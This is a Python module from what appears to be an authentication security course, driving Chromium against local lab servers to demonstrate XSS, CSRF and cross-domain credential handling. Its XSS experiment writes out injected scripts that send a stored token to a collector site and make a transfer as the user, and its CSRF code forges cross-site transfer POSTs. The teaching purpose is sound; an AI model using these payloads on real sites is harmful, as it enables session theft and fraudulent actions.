"""The browser experiments the chapters call: XSS, CSRF and a cross-domain call, in Chromium or as recorded.

Each function runs live when a Chromium is there (pass a `Browser` to share one per notebook) and
otherwise returns the result recorded in Chromium by `tools/record_browser_results.py`, with
`recorded=True`. Print a result's fields (or `str(result)`), not its `recorded` flag, in cells
whose output must be the same live and recorded.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, fields
from importlib import resources
from typing import Any
from urllib.parse import quote

from ..fleet.resulttable import ResultTable
from .browser import Browser, Tab, chromium_path
from .proof import Observation
from .servers import BANK, OTHER_SITE, LabServer

ALICE = ("alice@example.com", "wonderland")
FRONT_END = "front.test"  # a front end on another domain than the API
WAIT = 5.0  # seconds


@dataclass(frozen=True)
class XssResult:
    """An injected script on the bank's page, against a token in localStorage and a token in an HttpOnly cookie."""

    token_stolen: bool  # the localStorage token reached the collector on the other site
    httponly_cookie_read: bool  # document.cookie showed the HttpOnly cookie to the script
    document_cookie: str  # what document.cookie showed the script on the cookie page
    cookie_request_status: int  # status of the script's own GET /api/profile, cookie mode
    request_carried_cookie: bool  # that request was authenticated by the HttpOnly cookie
    transfer_status: int = 0  # status of the script's own POST /lab/transfer (a change made as the user)
    chromium: str = ""
    recorded: bool = False

    @property
    def acted_as_user(self) -> bool:
        return self.transfer_status == 200

    def __str__(self) -> str:
        return "\n".join([
            f"token in localStorage stolen by the script:   {self.token_stolen}",
            f"HttpOnly cookie visible to document.cookie:   {self.httponly_cookie_read} "
            f"(document.cookie = {self.document_cookie!r})",
            f"the script's own request carried the cookie:  {self.request_carried_cookie} "
            f"(GET /api/profile -> {self.cookie_request_status})",
        ])

    def report(self) -> str:
        """`str(result)` and what the script changed as the user with the cookie it could not read."""
        return str(self) + (f"\nthe script changed something as the user:     {self.acted_as_user} "
                            f"(POST /lab/transfer -> {self.transfer_status})")


@dataclass(frozen=True)
class CsrfResult:
    """One forged cross-site form POST (a transfer) against one credential and defence."""

    defence: str  # e.g. "session cookie, SameSite=None"
    credential_sent: bool  # the forged request carried the credential
    status: int  # what the bank answered the forged request
    transferred: bool  # the money moved
    cookies: tuple[str, ...] = ()  # names of the cookies the forged request carried, as the bank received it
    chromium: str = ""
    recorded: bool = False

    def __str__(self) -> str:
        outcome = "TRANSFERRED" if self.transferred else "refused"
        return f"{self.defence:<38} credential sent: {str(self.credential_sent):<5}  status {self.status}  {outcome}"


def csrf_table(results: list[CsrfResult]) -> ResultTable:
    """What the bank received from the forged cross-site POST and what it did, one row per credential."""
    rows = [(result.defence, "Cookie: " + ", ".join(result.cookies) if result.cookies else "(no Cookie header)",
             result.status, "TRANSFERRED" if result.transferred else "refused") for result in results]
    version = next((result.chromium for result in results if result.chromium), "")
    source = Observation([], not any(result.recorded for result in results), version).source
    caption = ("a form on https://evil.test posts to https://bank.test, in the lab's Chromium "
               "(third-party cookies blocked; a top-level POST is not a third-party request)")
    return ResultTable.of(("login held as", "the forged POST /lab/transfer carried", "bank answered", "money"), rows,
                          notes=[source], caption=caption)


@dataclass(frozen=True)
class CrossDomainResult:
    """A front end on another domain calls the API: with the API's session cookie, then with a Bearer token."""

    cookie_sent: bool  # the credentialed fetch carried the API's session cookie
    cookie_reasons: tuple[str, ...]  # Chromium's reasons for leaving it off
    cookie_status: int  # what the API answered that fetch
    bearer_status: int  # what the API answered the fetch with `Authorization: Bearer`
    chromium: str = ""
    recorded: bool = False

    def __str__(self) -> str:
        return "\n".join([
            f"session cookie sent cross-domain:  {self.cookie_sent} {list(self.cookie_reasons)} "
            f"-> {self.cookie_status}",
            f"Bearer token sent cross-domain:    True -> {self.bearer_status}",
        ])


def recorded(name: str) -> Any:
    text = resources.files("authcourse.browserlab").joinpath("recorded", "experiments.json").read_text(encoding="utf-8")
    data = json.loads(text)
    return data[name], data["chromium"]


def as_recorded(cls: Any, item: dict[str, Any], version: str) -> Any:
    values = {f.name: item[f.name] for f in fields(cls) if f.name in item}
    values.update(chromium=version, recorded=True)
    for name in ("cookie_reasons", "cookies"):
        if name in values:
            values[name] = tuple(values[name])
    return cls(**values)


def recorded_xss_result() -> XssResult:
    item, version = recorded("xss")
    return as_recorded(XssResult, item, version)


def recorded_csrf_results(name: str = "csrf") -> list[CsrfResult]:
    items, version = recorded(name)
    return [as_recorded(CsrfResult, item, version) for item in items]


def recorded_cross_domain_result() -> CrossDomainResult:
    item, version = recorded("cross_domain")
    return as_recorded(CrossDomainResult, item, version)


def browser_available() -> bool:
    return chromium_path() is not None


def log_in(tab: Tab, lab: LabServer) -> None:
    """Log alice in through the lab's login page, as the page's own script does."""
    tab.goto(lab.url(BANK, "/lab/login"))
    status = tab.page.evaluate("([e, p]) => login(e, p)", list(ALICE))
    if status != 200:
        raise RuntimeError(f"the lab login answered {status}")


def injected(script: str) -> str:
    return "/lab/search?q=" + quote(f"<script>{script}</script>", safe="")


def run_live(experiment: Any, browser: Browser | None, *args: Any) -> Any:
    if browser is not None:
        return browser.run(experiment, browser, *args)
    with Browser() as own:
        return own.run(experiment, own, *args)


def xss_experiment(browser: Browser | None = None) -> XssResult:
    """Inject a script into the bank's search page, once per way of keeping the credential.

    Token mode (a JWT in localStorage): the script reads it and sends it to a collector on the other
    site. Cookie mode (the same JWT in an HttpOnly cookie): the script cannot read it, yet its own
    requests carry it: it reads the profile and makes a transfer as the user. HttpOnly stops theft,
    not use. Without Chromium: the recorded result.
    """
    if browser is None and not browser_available():
        return recorded_xss_result()
    return run_live(run_xss, browser)


def run_xss(browser: Browser) -> XssResult:
    with LabServer("token") as token_lab, LabServer("cookie-token") as cookie_lab:
        tab = browser.tab()
        try:
            log_in(tab, token_lab)
            kept = tab.script_view()["localStorage"].get("token", "")
            collector = token_lab.url(OTHER_SITE, "/lab/collect")
            tab.goto(token_lab.url(BANK, injected(
                f"new Image().src = '{collector}?token=' + encodeURIComponent(localStorage.getItem('token'))")))
            token_lab.log.wait_for(lambda: bool(token_lab.log.stolen), WAIT)
            stolen = [item.get("token") for item in token_lab.log.stolen]

            log_in(tab, cookie_lab)
            collector = cookie_lab.url(OTHER_SITE, "/lab/collect")
            tab.goto(cookie_lab.url(BANK, injected(
                "Promise.all([fetch('/api/profile', {credentials: 'same-origin'}), fetch('/lab/transfer', "
                "{method: 'POST', credentials: 'same-origin', body: 'to=mallory&amount=1000', "
                "headers: {'content-type': 'application/x-www-form-urlencoded'}})]).then(([r, t]) => "
                f"new Image().src = '{collector}?cookie=' + encodeURIComponent(document.cookie) "
                "+ '&status=' + r.status + '&transfer=' + t.status)")))
            cookie_lab.log.wait_for(lambda: bool(cookie_lab.log.stolen), WAIT)
            seen = cookie_lab.log.stolen[0] if cookie_lab.log.stolen else {}
        finally:
            tab.close()
    status = int(seen.get("status", 0))
    return XssResult(
        token_stolen=bool(kept) and kept in stolen,
        httponly_cookie_read="token=" in seen.get("cookie", ""),
        document_cookie=seen.get("cookie", ""),
        cookie_request_status=status,
        request_carried_cookie=status == 200,
        transfer_status=int(seen.get("transfer", 0)),
        chromium=browser.version,
    )


CSRF_SETUPS = (
    ("session cookie, SameSite=None", "session", "None", "/lab/transfer"),
    ("session cookie, SameSite=Lax", "session", "Lax", "/lab/transfer"),
    ("session cookie, SameSite=Strict", "session", "Strict", "/lab/transfer"),
    ("Bearer token (localStorage)", "token", "keep", "/lab/transfer"),
    ("SameSite=None + CSRF token", "session", "None", "/lab/transfer-guarded"),
)


# The lesson's "best of both worlds", a JWT in a cookie (mode cookie-token), under each SameSite value.
# The cookie without SameSite is minutes old at most: Chromium still sends it on a cross-site POST then.
HYBRID_CSRF_SETUPS = (
    ("JWT cookie, SameSite=None", "cookie-token", "None", "/lab/transfer"),
    ("JWT cookie, no SameSite (under 2 min old)", "cookie-token", None, "/lab/transfer"),
    ("JWT cookie, SameSite=Lax", "cookie-token", "Lax", "/lab/transfer"),
    ("JWT cookie, SameSite=Strict (the lesson's)", "cookie-token", "Strict", "/lab/transfer"),
)


def csrf_experiment(browser: Browser | None = None) -> list[CsrfResult]:
    """A page on evil.test auto-submits a transfer form to bank.test, once per credential and defence.

    The victim is logged in on bank.test. Returns one result per row of `CSRF_SETUPS`: what the
    forged request carried and whether the money moved. Without Chromium: the recorded results.
    """
    if browser is None and not browser_available():
        return recorded_csrf_results()
    return run_live(run_csrf, browser)


def hybrid_csrf_experiment(browser: Browser | None = None) -> list[CsrfResult]:
    """The same forged transfer against the cookie-token server (a JWT in an HttpOnly cookie), one row per
    SameSite value of `HYBRID_CSRF_SETUPS`. Without Chromium: the recorded results."""
    if browser is None and not browser_available():
        return recorded_csrf_results("csrf_cookie_token")
    return run_live(run_csrf, browser, HYBRID_CSRF_SETUPS)


def forge_transfer(tab: Tab, lab: LabServer, path: str) -> int:
    target = lab.url(BANK, path)
    other = lab.url(OTHER_SITE, f"/lab/other?kind=form-post&target={quote(target, safe='')}")
    with tab.page.expect_response(lambda response: response.url == target) as response:
        tab.goto(other)
    return response.value.status


def run_csrf(browser: Browser, setups: tuple[tuple[str, str, str | None, str], ...] = CSRF_SETUPS) -> list[CsrfResult]:
    results = []
    for defence, mode, same_site, path in setups:
        with LabServer(mode, cookie_same_site=same_site) as lab:
            tab = browser.tab()
            try:
                log_in(tab, lab)
                status = forge_transfer(tab, lab, path)
            finally:
                tab.close()
            attempt = [hit for hit in lab.log.hits if hit.path == path][-1]
            results.append(CsrfResult(defence, attempt.credential, status, bool(lab.log.transfers),
                                      tuple(sorted(attempt.cookies)), browser.version))
    return results


def cross_domain_experiment(browser: Browser | None = None) -> CrossDomainResult:
    """A front end on front.test calls the API on bank.test with `fetch`: the session cookie, then a Bearer token.

    The cookie (SameSite=Lax, the mini-server's default) stays home: the call is cross-site, and Lax (and
    the lab's Chromium, which blocks third-party cookies) keep it off a cross-site fetch. The Bearer token
    is added by the front end's own code, so it goes wherever that code sends it (the API allows the origin
    by CORS). Without Chromium: the recorded result.
    """
    if browser is None and not browser_available():
        return recorded_cross_domain_result()
    return run_live(run_cross_domain, browser)


def run_cross_domain(browser: Browser) -> CrossDomainResult:
    call = "(url) => fetch(url, {credentials: 'include'}).then(r => r.status)"
    bearer = "([url, token]) => fetch(url, {headers: {authorization: 'Bearer ' + token}}).then(r => r.status)"
    with LabServer("session", cors_origins=FRONT_END) as session_lab, \
            LabServer("token", cors_origins=FRONT_END) as token_lab:
        tab = browser.tab()
        try:
            log_in(tab, session_lab)
            tab.goto(session_lab.url(FRONT_END, "/lab/x/front"))
            profile = session_lab.url(BANK, "/api/profile")
            cookie_status = tab.page.evaluate(call, profile)
            tab.page.wait_for_timeout(50)  # let the DevTools report arrive
            reasons = next((found["sid"] for request_id, found in tab.sent_reasons.items()
                            if tab.urls.get(request_id) == profile and "sid" in found), [])
            log_in(tab, token_lab)
            token = tab.script_view()["localStorage"]["token"]
            tab.goto(token_lab.url(FRONT_END, "/lab/x/front"))
            bearer_status = tab.page.evaluate(bearer, [token_lab.url(BANK, "/api/profile"), token])
        finally:
            tab.close()
    return CrossDomainResult(not reasons and cookie_status == 200, tuple(sorted(reasons)), cookie_status,
                             bearer_status, browser.version)
